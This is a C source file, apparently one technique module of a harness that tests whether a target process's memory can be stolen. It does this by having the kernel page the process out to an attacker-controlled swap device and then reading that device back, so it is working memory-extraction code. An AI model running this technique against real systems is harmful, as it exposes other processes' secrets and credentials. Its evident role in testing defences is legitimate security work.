/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Have the kernel write the target's memory to a swap device of ours, and read
 * it there. $THEFT_SWAP: a block device that may be overwritten.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#include "theft.h"

#ifndef MADV_PAGEOUT
#define MADV_PAGEOUT 21
#endif

/* The header of a swap device, as mkswap writes it. */
static uint64_t
make_swap(const char *path)
{
	uint8_t head[THEFT_PAGE] = { 0 };
	uint64_t size = 0;
	const uint8_t mark[] = { 'S', 'W', 'A', 'P', 'S', 'P', 'A', 'C', 'E', '2' };
	uint32_t words[3] = { 1, 0, 0 }; /* version, last page, bad pages */
	int fd = open(path, O_RDWR | O_CLOEXEC);

	if (fd < 0 || ioctl(fd, BLKGETSIZE64, &size) != 0 || size < 1u << 20)
		theft_cannot("%s: no block device to swap to (%m)", path);
	words[1] = (uint32_t)(size / THEFT_PAGE - 1);
	memcpy(head + 1024, words, sizeof(words));
	memcpy(head + THEFT_PAGE - sizeof(mark), mark, sizeof(mark));
	if (pwrite(fd, head, sizeof(head), 0) != sizeof(head) || fsync(fd) != 0)
		theft_cannot("%s: %m", path);
	close(fd);
	return size;
}

static int
push_out(const struct theft *t)
{
	long pidfd = syscall(SYS_pidfd_open, t->pid, 0);
	int error = 0;

	if (pidfd < 0)
		return errno;
	for (size_t i = 0; i < t->areas; i++) {
		struct iovec v = { (void *)(uintptr_t)t->area[i].start,
				   t->area[i].end - t->area[i].start };

		if (syscall(SYS_process_madvise, pidfd, &v, 1, MADV_PAGEOUT, 0) < 0)
			error = errno;
	}
	close((int)pidfd);
	return error;
}

int
main(int argc, char **argv)
{
	const char *path = getenv("THEFT_SWAP");
	static uint8_t piece[1u << 16], zeros[1u << 16];
	static struct theft t;
	int error = 0, fd = -1;
	ssize_t n = 0;

	theft_begin(&t, argc, argv);
	if (path == NULL)
		theft_cannot("no device to swap to (THEFT_SWAP)");
	make_swap(path);
	if (swapon(path, 0) != 0)
		theft_cannot("swapon %s: %m", path);
	error = push_out(&t);
	usleep(500000);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	while (fd >= 0 && (n = read(fd, piece, sizeof(piece))) > 0) {
		if (memcmp(piece, zeros, (size_t)n) != 0)
			theft_write(&t, piece, (size_t)n);
	}
	if (swapoff(path) != 0)
		theft_cannot("swapoff %s: %m", path);
	/* What lies there now must not be taken for the next victim's. */
	fd = open(path, O_WRONLY | O_CLOEXEC);
	while (fd >= 0 && write(fd, zeros, sizeof(zeros)) > 0)
		continue;
	if (error != 0)
		t.error = error;
	if (t.octets <= sizeof(piece))
		theft_refused("nothing of it was swapped out (%s)", strerror(error));
	theft_end(&t, "swapped out");
}
